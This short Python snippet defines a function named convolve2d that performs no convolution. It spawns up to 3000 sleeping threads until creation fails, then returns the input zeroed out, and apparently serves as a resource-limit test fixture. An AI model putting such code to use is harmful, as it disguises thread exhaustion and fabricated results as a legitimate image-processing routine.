"""Starts threads until it cannot."""

import threading
import time


def convolve2d(image, kernel):
    for _ in range(3000):
        try:
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        except RuntimeError:
            break
    return image * 0.0
